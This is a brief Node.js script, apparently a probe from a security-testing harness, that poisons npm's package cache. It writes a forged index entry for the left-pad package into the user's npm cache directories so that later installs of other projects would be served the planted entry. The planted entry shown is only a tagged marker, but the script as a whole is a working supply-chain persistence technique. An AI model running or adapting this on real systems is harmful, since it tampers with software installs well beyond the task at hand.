'use strict';
// Trojanise the package manager's cache: an entry planted there is served to the next
// install of any project that shares the cache, long after this one is gone.
const fs = require('fs');
const path = require('path');
const lib = require('./lib.js');

lib.run(async () => {
  const caches = [process.env.npm_config_cache, path.join(lib.home(), '.npm')].filter(Boolean);
  for (const cache of [...new Set(caches)]) {
    const dir = path.join(cache, '_cacache', 'index-v5', 'sp');
    try {
      fs.mkdirSync(dir, { recursive: true });
      fs.writeFileSync(
        path.join(dir, `poison-${lib.cfg.runTag}`),
        JSON.stringify({ key: 'make-fetch-happen:request-cache:https://registry.npmjs.org/left-pad', note: `sp-persist-${lib.cfg.runTag}` }) + '\n',
      );
      lib.did('wrote');
    } catch (e) {
      lib.note(`${cache}: ${e.code}`);
    }
  }
});
